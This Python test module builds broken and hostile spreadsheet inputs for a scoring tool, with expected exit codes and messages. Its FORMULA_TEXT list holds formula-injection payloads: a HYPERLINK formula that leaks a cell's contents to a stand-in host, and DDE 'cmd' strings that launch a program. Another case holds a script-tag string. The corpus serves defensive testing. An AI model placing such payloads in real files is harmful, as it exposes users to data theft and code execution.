"""A corpus of broken and hostile input files, each with the outcome ``assess score`` must give.

Every file is made here from its recipe (no binary blobs).  ``python tests/corpus.py DIR``
writes the whole corpus into DIR for a look by hand; the tests in ``test_hostile.py`` build
each case in a temporary folder and run it through the command line.
"""

from __future__ import annotations

import io
import random
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from conftest import EXAMPLE_WORKBOOK as EXAMPLE
from conftest import HEADER

#: text that spreadsheet programs would run as a formula if written naively
FORMULA_TEXT = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\t=2+2",
    "\r=3+3",
]


def rows(n: int = 3, prefix: str = "E") -> list[list[object]]:
    return [[f"{prefix}{i}", f"Engagement {i}", "Joint exercise", 3, 3, 2, 3, 1] for i in range(n)]


def xlsx(
    path: Path,
    data: list[list[object]],
    header: list[object] | None = None,
    sheet: str = "Engagements",
) -> Path:
    """A plain workbook written with XlsxWriter, text always stored as text."""
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_urls": False})
    ws = wb.add_worksheet(sheet)
    for r, values in enumerate([header or HEADER, *data]):
        for c, v in enumerate(values):
            if v is not None:
                ws.write(r, c, v)
    wb.close()
    return path


# -- recipes ----------------------------------------------------------------------------


def text_renamed(path: Path) -> None:
    path.write_text("Engagement ID,Transparency\nE1,3\n")


def truncated(path: Path) -> None:
    path.write_bytes(EXAMPLE.read_bytes()[:3000])


def corrupt(path: Path) -> None:
    data = bytearray(EXAMPLE.read_bytes())
    rng = random.Random(7)
    for i in range(len(data) // 3, len(data) // 3 + 400):
        data[i] = rng.randrange(256)
    path.write_bytes(bytes(data))


def empty(path: Path) -> None:
    path.write_bytes(b"")


def password_protected(path: Path) -> None:
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    with EXAMPLE.open("rb") as fh:
        OOXMLFile(fh).encrypt("secret", out)
    path.write_bytes(out.getvalue())


def old_binary_xls(path: Path) -> None:
    """The example saved as .xls (BIFF8) by LibreOffice."""
    soffice = shutil.which("soffice")
    with tempfile.TemporaryDirectory() as tmp:
        subprocess.run(
            [
                soffice,
                "--headless",
                "--norestore",
                f"-env:UserInstallation=file://{tmp}/profile",
                "--convert-to",
                "xls",
                "--outdir",
                tmp,
                str(EXAMPLE),
            ],
            check=True,
            capture_output=True,
            timeout=180,
        )
        shutil.copy(Path(tmp) / "engagements.xls", path)


def no_matching_sheet(path: Path) -> None:
    header = ["Ref", "Activity", "Transparancy", "Norm alignment", "Interop score", "Budget"]
    xlsx(path, [["E1", "x", 1, 2, 3, 4]], header=header)


def headers_only(path: Path) -> None:
    xlsx(path, [])


def merged_headers(path: Path) -> None:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "Engagements"
    ws.append(["FY2025 tracker"])
    ws.merge_cells("A1:H1")
    ws.append(["", "", "", "Ratings (0-4)"])
    ws.merge_cells("D2:H2")
    ws.append(HEADER)
    ws.merge_cells("B3:C3")  # "Engagement" header merged over the Type column
    for r in rows(3):
        ws.append(r)
    wb.save(path)


def duplicate_headers(path: Path) -> None:
    header = HEADER[:4] + ["Transparency"] + HEADER[5:]
    xlsx(path, rows(2), header=header)


def hidden_sheet_only(path: Path) -> None:
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.title = "Cover"
    wb.active.append(["Nothing to see here"])
    hidden = wb.create_sheet("Data")
    hidden.sheet_state = "hidden"
    hidden.append(HEADER)
    for r in rows(2):
        hidden.append(r)
    wb.save(path)


def hidden_and_visible(path: Path) -> None:
    from openpyxl import Workbook

    wb = Workbook()
    visible = wb.active
    visible.title = "Current"
    visible.append(HEADER)
    for r in rows(2, "V"):
        visible.append(r)
    hidden = wb.create_sheet("Old", 0)
    hidden.sheet_state = "hidden"
    hidden.append(HEADER)
    for r in rows(5, "H"):
        hidden.append(r)
    wb.save(path)


def big_sheet(path: Path, n: int = 100_000) -> None:
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(path), {"constant_memory": True})
    ws = wb.add_worksheet("Engagements")
    ws.write_row(0, 0, HEADER)
    for i in range(n):
        ws.write_row(
            i + 1,
            0,
            [
                f"E{i:06d}",
                f"Engagement {i}",
                "Joint exercise",
                i % 5,
                (i // 5) % 5,
                (i // 25) % 5,
                (i // 125) % 5,
                (i // 625) % 5,
            ],
        )
    wb.close()


def formula_text(path: Path) -> None:
    data = [[f"H{i}", text, text, 3, 3, 3, 3, 1] for i, text in enumerate(FORMULA_TEXT)]
    data.append(["=1+1", "id that looks like a formula", "x", 2, 2, 2, 2, 2])
    xlsx(path, data)


def huge_and_control_text(path: Path) -> None:
    data = [
        ["B1", "x" * 100_000, "Joint exercise", 3, 3, 3, 3, 1],
        [
            "B2",
            "bell\x07 escape\x1b[31mred\x1b[0m nul\x00 tab\t cr\r end",
            "Type\x0b",
            2,
            2,
            2,
            2,
            2,
        ],
        [
            "B3",
            "<script>alert('x')</script> & \u202eRTL override",
            "Strategic dialogue",
            1,
            1,
            1,
            1,
            1,
        ],
    ]
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False})
    ws = wb.add_worksheet("Engagements")
    ws.write_row(0, 0, HEADER)
    for r, values in enumerate(data, start=1):
        for c, v in enumerate(values):
            if isinstance(v, str):
                ws.write_string(r, c, v.replace("\x00", ""))  # XML cannot hold NUL at all
            else:
                ws.write_number(r, c, v)
    wb.close()


def formula_errors(path: Path) -> None:
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet("Engagements")
    ws.write_row(0, 0, HEADER)
    ws.write_row(1, 0, ["E1", "ok", "x", 3, 3, 3, 3, 1])
    ws.write_row(2, 0, ["E2", "div by zero", "x", 3, 3, 3, 3])
    ws.write_formula(2, 7, "=1/0", None, "#DIV/0!")
    wb.close()


def binary_csv(path: Path) -> None:
    path.write_bytes(b"Engagement ID,Transparency\nE1,\x00\x01\x02\xff\xfe\n")


def unsupported_extension(path: Path) -> None:
    path.write_bytes(b"%PDF-1.4\n")


@dataclass(frozen=True)
class Case:
    """One corpus file: its name, recipe, expected exit code and a phrase of the message."""

    name: str
    make: Callable[[Path], None]
    exit_code: int
    says: str
    needs: str = ""  # an optional tool or module the recipe needs


CASES = [
    Case("text-renamed.xlsx", text_renamed, 2, "not a .xlsx workbook"),
    Case("truncated.xlsx", truncated, 2, "cannot open as a workbook"),
    Case("corrupt.xlsx", corrupt, 2, "workbook"),
    Case("empty.xlsx", empty, 2, "the file is empty"),
    Case("password.xlsx", password_protected, 2, "password-protected", needs="msoffcrypto"),
    Case(
        "old-binary.xls",
        old_binary_xls,
        1,
        "49 scored, 1 insufficient evidence, 4 rejected of 54 rows",
        needs="soffice",
    ),
    Case(
        "no-matching-sheet.xlsx",
        no_matching_sheet,
        2,
        "did you mean 'Transparancy' for 'Transparency'",
    ),
    Case("headers-only.xlsx", headers_only, 2, "headers but no data rows"),
    Case(
        "merged-headers.xlsx",
        merged_headers,
        0,
        "3 scored, 0 insufficient evidence, 0 rejected of 3 rows",
    ),
    Case("duplicate-headers.xlsx", duplicate_headers, 2, "both read as 'transparency'"),
    Case("hidden-sheet-only.xlsx", hidden_sheet_only, 0, "found on hidden sheet 'Data'"),
    Case(
        "hidden-and-visible.xlsx",
        hidden_and_visible,
        0,
        "2 scored, 0 insufficient evidence, 0 rejected of 2 rows",
    ),
    Case(
        "100k-rows.xlsx",
        big_sheet,
        0,
        "100000 scored, 0 insufficient evidence, 0 rejected of 100000 rows",
    ),
    Case("formula-text.xlsx", formula_text, 0, "8 scored"),
    Case("huge-and-control-text.xlsx", huge_and_control_text, 0, "3 scored"),
    Case("formula-errors.xlsx", formula_errors, 1, "Engagements!H3: '#DIV/0!' is not a rating 0-4"),
    Case("binary.csv", binary_csv, 2, "binary data"),
    Case("report.pdf", unsupported_extension, 2, "unsupported file type .pdf"),
]


def available(case: Case) -> bool:
    if case.needs == "soffice":
        return shutil.which("soffice") is not None
    if case.needs:
        try:
            __import__(case.needs)
        except ImportError:
            return False
    return True


def main(argv: list[str]) -> int:
    out = Path(argv[1] if len(argv) > 1 else "corpus")
    out.mkdir(parents=True, exist_ok=True)
    for case in CASES:
        if available(case):
            case.make(out / case.name)
            print(f"{case.name}: expect exit {case.exit_code}, {case.says!r}")
        else:
            print(f"{case.name}: skipped, needs {case.needs}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
